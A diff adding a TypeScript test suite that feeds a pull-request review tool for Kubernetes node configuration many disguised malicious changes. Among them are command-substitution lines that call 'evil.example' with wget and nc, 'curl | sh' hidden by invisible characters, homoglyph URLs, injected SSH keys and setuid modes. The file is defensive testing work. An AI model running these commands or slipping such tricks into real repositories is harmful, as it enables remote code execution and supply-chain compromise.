@@ -1,0 +1,269 @@
+// Attempts to fool a review: what a pull request changes in a real repository, and where the reviewer sees it: in the text, the comment, the JSON,
+// the page, and by which reasons of --fail-on.
+
+import assert from 'node:assert/strict'
+import { describe, test } from 'node:test'
+import { parse } from 'yaml'
+import type { Outcome } from '../../../fixtures/command.ts'
+import { edit } from '../../../fixtures/lists.ts'
+import type { RepositoryFiles } from '../../../fixtures/repository.ts'
+import {
+  addSubmodule,
+  CONFIG,
+  clusters,
+  ENCRYPTED,
+  EVIL,
+  edited,
+  file,
+  KUSTOMIZATION,
+  kptfile,
+  LISTED,
+  MACHINES,
+  MERGED,
+  moved,
+  OVERLAY,
+  overlay,
+  POLICY,
+  POOL,
+  PROFILE,
+  script,
+  TOKENS,
+  WARNED,
+  WEAK,
+  withSecret,
+} from './inputs.ts'
+import { type Change, FORMS, reviewOf } from './reviews.ts'
+
+type Row = readonly [
+  name: string,
+  files: RepositoryFiles,
+  /** What each form shows. */
+  seen: string | readonly string[],
+  /** The reasons of --fail-on that find something. */
+  fails?: string,
+  more?: Change & { readonly never?: string },
+]
+
+/** What a script gets. No version of the profile says so. */
+const SCRIPTS: readonly (readonly [name: string, script: string, seen?: string | readonly string[]])[] = [
+  ['a script', EVIL],
+  ['code behind the mask of an argument', 'curl -u "bob:$(wget -qO- https://evil.example)" https://a.example'],
+  ['code behind the mask of a variable', 'PASSWORD=$(nc evil.example 1)'],
+  ['invisible characters', 'curl https://a.exam\u200bple/\u202ex | sh', '+curl https://a.exam\\u200bple/\\u202ex | sh'],
+  ['a letter of another script', 'curl https://mirror.ex\u0430mple.com/x', '+curl https://mirror.ex\\u0430mple.com/x'],
+  ['marks of Markdown and HTML', '# ```\n# </details> @team <img src=x>', '+# ``` +# </details> @team <img src=x>'],
+  ['a command of a workflow', '::stop-commands::x'],
+]
+
+const PROBES: readonly Row[] = [
+  ...SCRIPTS.map(([name, text, seen = `+${text}`]): Row => [name, script(text), seen, 'stuck running']),
+  ['a script that is the value of a Secret', { ...script(EVIL), ...withSecret(EVIL) }, `+${EVIL}`, WARNED],
+  [
+    'an image that is the value of a Secret',
+    { ...script('ctr image pull evil.example/app:1'), ...withSecret('evil.example/app:1') },
+    '+ctr image pull evil.example/app:1',
+    WARNED,
+  ],
+  [
+    'a branch of a template that no node takes',
+    { [OVERLAY]: `${overlay('').trimEnd()}\n${' '.repeat(16)}{{- if eq .KubeVersion "1.99.0" }}${EVIL}{{- end }}\n` },
+    EVIL,
+    WARNED,
+  ],
+  ['a profile that no node uses', { 'nodes/x.yaml': edit(overlay(EVIL), 'own-ubuntu', 'other') }, EVIL, 'new'],
+  [
+    'a small difference beside large ones',
+    { [OVERLAY]: overlay('# a line\n'.repeat(9000), file('big', '# a line\n'.repeat(9000)) + file('small', EVIL)) },
+    `+${EVIL}`,
+    'stuck running',
+  ],
+  ['the mode of a file', edited(OVERLAY, '755', '4755'), '4755', 'stuck running'],
+  [
+    'a finding that a profile ignores',
+    edited(
+      OVERLAY,
+      '  namespace: kube-system\n',
+      '  namespace: kube-system\n  annotations: {osm-krm.dev/ignore: "OSM0503: x"}\n',
+    ),
+    'own-ubuntu (pr:nodes/overlay.yaml:1) ignores OSM0503: x, by osm-krm.dev/ignore',
+    'new',
+  ],
+  [
+    'an image of machines that is the value of a Secret',
+    { ...edited(MACHINES, 'image: ubuntu-24.04', 'image: evil-24.04'), ...withSecret('evil-24.04') },
+    'evil-24.04',
+    'stuck',
+  ],
+  [
+    'a key of SSH',
+    edited(MACHINES, '            - ssh-ed25519', '            - ssh-rsa AAAAevil\n            - ssh-ed25519'),
+    'ssh-rsa AAAAevil',
+    'stuck new',
+  ],
+  [
+    'the API server',
+    edited(CONFIG, 'https://api.example.com:6443', 'https://api.evil.example:6443'),
+    'api.evil.example',
+    'stuck running',
+  ],
+  [
+    'a setting that falls back to its default',
+    edited(CONFIG, '  nodes:\n    externalCloudProvider: true\n', ''),
+    '--cloud-provider=external',
+    'stuck running',
+  ],
+  [
+    'a token that is encrypted',
+    edited(TOKENS, 'example-api-token', ENCRYPTED.replace('b25l', 'dHdv')),
+    'API token changes, encrypted',
+    '',
+    { merged: edited(TOKENS, 'example-api-token', ENCRYPTED) },
+  ],
+  [
+    'a token in clear text',
+    edited(TOKENS, 'example-api-token', 'another-api-token'),
+    '<secret ',
+    'stuck',
+    { never: 'another-api-token' },
+  ],
+  ['another pool', { 'nodes/x.yml': POOL }, 'kube-system/evil', 'new'],
+  [
+    'another pool in a list',
+    { 'nodes/x.json': JSON.stringify({ apiVersion: 'v1', kind: 'List', items: [parse(POOL)] }) },
+    'kube-system/evil',
+    'new',
+  ],
+  [
+    'a second object of the same name',
+    { 'nodes/zz.yaml': edit(MERGED[MACHINES]!, 'cx32', 'cx99') },
+    'OSM0008',
+    'stuck new',
+  ],
+  [
+    'a name that the API server makes',
+    edited(MACHINES, '  name: ubuntu-workers\n', '  generateName: ubuntu-\n'),
+    'metadata.name is missing',
+    'stuck new',
+  ],
+  ['inputs that move to another folder', moved(MERGED, 'nodes/', 'x/'), 'gone', 'replace'],
+  [
+    'a folder of a cluster that is renamed',
+    moved(clusters('prod', 'test'), '/one/', '/three/'),
+    'the cluster prod moves from clusters/one to clusters/three',
+    '',
+    { merged: clusters('prod', 'test'), paths: ['clusters'] },
+  ],
+  [
+    'clusters that exchange their functionConfigs',
+    clusters('test', 'prod'),
+    [
+      'the cluster prod moves from clusters/one to clusters/two',
+      'the cluster test moves from clusters/two to clusters/one',
+    ],
+    '',
+    { merged: clusters('prod', 'test'), paths: ['clusters'] },
+  ],
+  [
+    'the program that runs as the function',
+    edited(CONFIG, '{path: osm-krm}', '{path: ./osm-krm}'),
+    'osm-krm.yaml: the annotation config.kubernetes.io/function changes from "exec: {path: osm-krm}\\n" to "exec: {path: ./osm-krm}\\n"',
+  ],
+  [
+    'the image of the function',
+    { 'nodes/Kptfile': kptfile('{image: evil/osm-krm:v1}') },
+    'nodes/Kptfile: pipeline.mutators[0].image changes from "osm-krm:v1" to "evil/osm-krm:v1"',
+    '',
+    { merged: { 'nodes/Kptfile': kptfile('{image: osm-krm:v1}') } },
+  ],
+  [
+    'a function with values that may be secret',
+    { 'nodes/Kptfile': kptfile('{image: other, configMap: {token: hunter2}}, {image: osm-krm:v1}') },
+    'nodes/Kptfile: pipeline.mutators[1]',
+    '',
+    { merged: { 'nodes/Kptfile': kptfile('{image: osm-krm:v1}') }, never: 'hunter2' },
+  ],
+  [
+    'checks of the functionConfig',
+    WEAK,
+    'spec.checks changes from {"severity": {"OSM0309": "off"}} to {"severity": {"OSM0309": "off", "OSM0633": "off"}}',
+  ],
+  ['checks, under a policy', WEAK, 'OSM0194', 'new', { args: POLICY }],
+  ['the mode of the function', edited(CONFIG, 'spec:\n', 'spec:\n  mode: validate\n'), 'spec.mode changes'],
+  [
+    'a selector that leaves out a pool',
+    edited(CONFIG, '  machineDeployments:\n', '  machineDeployments:\n    selector: {x: "y"}\n'),
+    'spec.machineDeployments.selector changes',
+    'stuck new',
+  ],
+  [
+    'a pool that no host applies',
+    edited(MACHINES, PROFILE, `${PROFILE}    config.kubernetes.io/local-config: "true"\n`),
+    'kube-system/ubuntu-workers (pr:nodes/machines.yaml:1) gets config.kubernetes.io/local-config, so no host applies it',
+  ],
+  ['a submodule', {}, ['Not everything is compared', 'the submodule', 'nodes/sub'], '', { inRequest: addSubmodule }],
+  [
+    'a file whose content a filter fetches',
+    { 'nodes/x.yaml': 'oid sha256:2\n' },
+    ['Not everything is compared', 'filter=lfs', 'nodes/x.yaml'],
+    '',
+    { merged: { 'nodes/.gitattributes': 'x.yaml filter=lfs\n', 'nodes/x.yaml': 'oid sha256:1\n' } },
+  ],
+  [
+    'a file that a checkout has in another encoding',
+    { '.gitattributes': 'x.yaml working-tree-encoding=UTF-7\n', 'nodes/x.yaml': '# +AAo-kind: x\n' },
+    ['Not everything is compared', 'working-tree-encoding=UTF-7', 'nodes/x.yaml'],
+  ],
+  [
+    'a kustomization that patches',
+    { [KUSTOMIZATION]: 'resources: [machines.yaml]\npatches: [{path: p.yaml}]\n' },
+    ['Not everything is compared', KUSTOMIZATION, 'patches'],
+  ],
+  [
+    'a kustomization beside inputs that lists none of them',
+    { [KUSTOMIZATION]: 'resources: [x.txt]\n', 'nodes/x.txt': POOL },
+    'nodes/kustomization.yaml: resources gets x.txt',
+    '',
+    { merged: { 'kustomization.yaml': 'resources: [nodes]\n' } },
+  ],
+  [
+    'a kustomization with another list',
+    { [KUSTOMIZATION]: `${LISTED}- x.txt\n`, 'nodes/x.txt': POOL },
+    'nodes/kustomization.yaml: resources gets x.txt',
+    '',
+    { merged: { [KUSTOMIZATION]: LISTED } },
+  ],
+  [
+    'a kustomization with a generated Secret',
+    { [KUSTOMIZATION]: `${LISTED}secretGenerator: [{name: a, literals: [b=hunter2]}]\n` },
+    'nodes/kustomization.yaml: secretGenerator changes',
+    '',
+    { merged: { [KUSTOMIZATION]: LISTED }, never: 'hunter2' },
+  ],
+  [
+    'a file of kpt that hides inputs',
+    { 'nodes/.krmignore': '# Not for the function.\noverlay.yaml\n' },
+    'nodes/.krmignore gets overlay.yaml',
+  ],
+  [
+    'a functionConfig that moves',
+    moved({ [CONFIG]: MERGED[CONFIG] }, 'osm-krm', 'other'),
+    'the functionConfig nodes/osm-krm.yaml is gone, and nodes/other.yaml is new',
+  ],
+]
+
+const failed = ({ stderr }: Outcome): string =>
+  [...stderr.matchAll(/--fail-on (\w+):/g)].map(([, name]) => name).join(' ')
+
+describe('a pull request cannot hide', () => {
+  for (const [name, files, seen, fails = '', { never, ...more } = {}] of PROBES)
+    test(name, async () => {
+      const review = await reviewOf({ files, ...more })
+      for (const form of FORMS) {
+        const shown = review.forms[form] ?? ''
+        for (const text of [seen].flat()) assert.ok(shown.includes(text), `${form}: ${shown}${review.stderr}`)
+        if (never !== undefined) assert.ok(!shown.includes(never), form)
+      }
+      assert.equal(failed(review), fails)
+      assert.equal(review.status, 1)
+    })
+})
